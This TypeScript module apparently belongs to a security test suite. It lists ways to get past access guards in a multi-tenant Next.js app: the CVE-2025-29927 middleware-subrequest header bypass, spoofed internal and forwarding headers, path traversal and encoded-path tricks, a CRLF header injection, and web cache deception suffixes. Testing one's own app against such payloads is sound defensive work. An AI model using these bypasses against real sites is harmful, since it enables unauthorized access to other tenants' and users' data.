import { createHash } from 'node:crypto'

/** One way round a guard: other headers, another path, or both. */
export interface WayRound {
  name: string
  headers?: Record<string, string>
  path?: (path: string) => string
}

const subrequest = (value: string): WayRound => ({
  name: `x-middleware-subrequest: ${value.slice(0, 60)}`,
  headers: { 'x-middleware-subrequest': value },
})

/** CVE-2025-29927 and its relatives: the header by which the middleware once knew its own requests. */
const SUBREQUESTS = [
  'middleware',
  'src/middleware',
  'pages/_middleware',
  'proxy',
  Array(5).fill('middleware').join(':'),
  Array(5).fill('src/middleware').join(':'),
  Array(6).fill('proxy').join(':'),
].map(subrequest)

/** What Next and proxies in front of other servers say of a request, said by a browser. */
const HEADERS: Record<string, string>[] = [
  { 'x-middleware-rewrite': '/en/orion/user/profile' },
  { 'x-middleware-next': '1' },
  { 'x-middleware-skip': '1' },
  { 'x-middleware-prefetch': '1', purpose: 'prefetch' },
  { 'x-middleware-set-cookie': 'user_id=1' },
  { 'x-middleware-override-headers': 'company', 'x-middleware-request-company': 'orion' },
  { 'x-middleware-invoke': '1', 'x-invoke-path': '/en/orion/user/profile', 'x-invoke-status': '200' },
  { 'x-invoke-path': '/en/orion/user/profile', 'x-invoke-output': '/[locale]/[company]/user/profile' },
  { 'x-matched-path': '/en/orion/user/profile' },
  { 'x-now-route-matches': '1=en&2=orion' },
  { 'x-nextjs-data': '1' },
  { 'x-nextjs-rewritten-path': '/en/orion/user/profile' },
  { 'x-original-url': '/en/orion/user/profile' },
  { 'x-rewrite-url': '/en/orion/user/profile' },
  { 'x-forwarded-uri': '/en/orion/user/profile' },
  { 'x-forwarded-prefix': '/en/orion' },
  { 'x-forwarded-host': 'orion.localhost' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', 'x-forwarded-port': '444' },
  { 'x-host': 'orion.localhost', 'x-forwarded-server': 'orion.localhost' },
  { forwarded: 'for=127.0.0.1;host=orion.localhost;proto=https' },
  { 'x-http-method-override': 'POST', 'x-method-override': 'POST' },
  { 'x-real-ip': '127.0.0.1', 'x-client-address': '127.0.0.1', 'true-client-ip': '127.0.0.1' },
  { company: 'orion', 'x-company': 'orion', 'x-locale': 'de', 'x-next-intl-locale': 'de' },
  { 'x-service-key': 'k', 'x-client-address': '127.0.0.1' },
  { 'next-action': 'a'.repeat(42) },
  { 'x-prerender-revalidate': 'a', 'x-prerender-revalidate-if-generated': '1' },
  { 'x-next-resume': '1', 'x-next-cache-tags': 'orion:settings' },
  { 'x-next-revalidated-tags': 'lykia:settings', 'x-next-revalidate-tag-token': 'a' },
]

const header = (headers: Record<string, string>): WayRound => ({
  name: Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}`)
    .join(', ')
    .slice(0, 80),
  headers,
})

const byPath = (name: string, path: (path: string) => string, headers: Record<string, string> = {}): WayRound => ({
  name,
  path,
  headers,
})

/** Next's router drops a request for a part of a page that does not carry the hash of its own headers. */
const rscHash = (headers: readonly string[]): string =>
  createHash('sha256').update(headers.join(',')).digest('hex').slice(0, 5)

const PARTS: WayRound[] = [
  byPath('the page as data for the router', (path) => `${path}?_rsc=${rscHash(['0'])}`, { rsc: '1' }),
  byPath('its prefetch', (path) => path, { rsc: '1', 'next-router-prefetch': '1' }),
  byPath('a segment of its prefetch', (path) => path, {
    rsc: '1',
    'next-router-prefetch': '1',
    'next-router-segment-prefetch': '/_tree',
  }),
  byPath('.rsc', (path) => `${path}.rsc`),
  byPath('.rsc as data', (path) => `${path}.rsc`, { rsc: '1' }),
  byPath('.prefetch.rsc', (path) => `${path}.prefetch.rsc`, { rsc: '1', 'next-router-prefetch': '1' }),
  byPath('.segments', (path) => `${path}.segments/_tree.segment.rsc`),
  byPath('.segments/__PAGE__', (path) => `${path}.segments/__PAGE__.segment.rsc`, { rsc: '1' }),
  byPath('.html', (path) => `${path}.html`),
  byPath('.json', (path) => `${path}.json`),
  byPath('.txt', (path) => `${path}.txt`),
]

const QUERIES = [
  'nxtPcompany=orion',
  'nxtPlocale=de&nxtPcompany=orion',
  'nxtIcompany=orion',
  'company=orion&locale=de',
  '__nextLocale=de',
  '__nextDefaultLocale=de&__nextDataReq=1',
  '_nextDataReq=1',
  'amp=1',
  '_rsc=00000',
].map((query) => byPath(`?${query}`, (path) => `${path}?${query}`))

/** Stands for the number of the build, which every page tells. */
export const BUILD = '{build}'

const INTERNAL: WayRound[] = [
  byPath('/_next/data', (path) => `/_next/data/${BUILD}${path}.json`),
  byPath('/_next/data as the router once asked', (path) => `/_next/data/${BUILD}${path}.json`, {
    'x-nextjs-data': '1',
  }),
  byPath('/_next/data of the other tenant', (path) => `/_next/data/${BUILD}/en/orion${path}.json`, {
    'x-nextjs-data': '1',
  }),
  byPath('/_next/data of another build', (path) => `/_next/data/build${path}.json`),
  byPath('the internal path', (path) => `/en/lykia${path}`),
  byPath('the internal path of the other tenant', (path) => `/en/orion${path}`),
  byPath('the same in German', (path) => `/de/orion${path}`),
  byPath('without a language', (path) => `/orion${path}`),
  byPath('by a static file', (path) => `/_next/static/../..${path}`),
  byPath('by an escaped static file', (path) => `/_next/static/%2e%2e/%2e%2e/en/orion${path}`),
  byPath('by the image optimizer', (path) => `/_next/image?url=${encodeURIComponent(path)}&w=640&q=75`),
  byPath('by a picture', (path) => `/images/..${path}`),
  byPath('by an escaped picture', (path) => `/images/..%2fen%2forion${path}.svg`),
  byPath('by the uploads', (path) => `/uploads/lykia/..%2f..${path}`),
  byPath('by the api', (path) => `/api/..${path}`),
  byPath('by the escaped api', (path) => `/api/%2e%2e/en/orion${path}`),
  byPath('two slashes', (path) => `/${path}`),
  byPath('two slashes and a host', (path) => `//orion.localhost${path}`),
  byPath('a backslash', (path) => `/\\orion.localhost${path}`),
  byPath('an absolute address', (path) => `http://orion.localhost${path}`),
  byPath('capitals', (path) => path.toUpperCase()),
  byPath('an escaped letter', (path) => path.replace('/u', '/%75').replace('/a', '/%61')),
  byPath('an escaped slash', (path) => `/en%2forion${path}`),
  byPath('a detour', (path) => `/x/..${path}`),
  byPath('an escaped detour', (path) => `/x/%2e%2e${path}`),
  byPath('a semicolon', (path) => `${path};x=1`),
  byPath('a semicolon detour', (path) => `/x/..;${path}`),
  byPath('a zero byte', (path) => `${path}%00`),
  byPath('a line feed', (path) => `${path}%0d%0ax-evil:%201`),
]

/** Web cache deception: an address that a cache on the way may take for a file, answered with somebody's own page. */
const DECEPTIONS: WayRound[] = [
  '/x.css',
  '/x.js',
  '/.css',
  '.css',
  ';.css',
  ';x.js',
  '%3b.css',
  '%2fx.css',
  '/..%2fx.css',
  '%2f..%2fx.css',
  '%2f%2e%2e%2f_next%2fstatic%2fx.css',
  '%23.css',
  '%3f.css',
  '%00.css',
  '%0a.css',
  '/x.avif',
  '/favicon.ico',
  '/robots.txt',
].map((extension) => byPath(extension, (path) => `${path}${extension}`))
DECEPTIONS.push(
  byPath('a static file by a detour', (path) => `/_next/static/..%2f..${path}`),
  byPath('a picture by a detour', (path) => `/images/x.svg/..%2f..${path}`),
)

export const WAYS_ROUND: readonly WayRound[] = [
  ...SUBREQUESTS,
  ...HEADERS.map(header),
  ...PARTS,
  ...QUERIES,
  ...INTERNAL,
  ...DECEPTIONS,
]
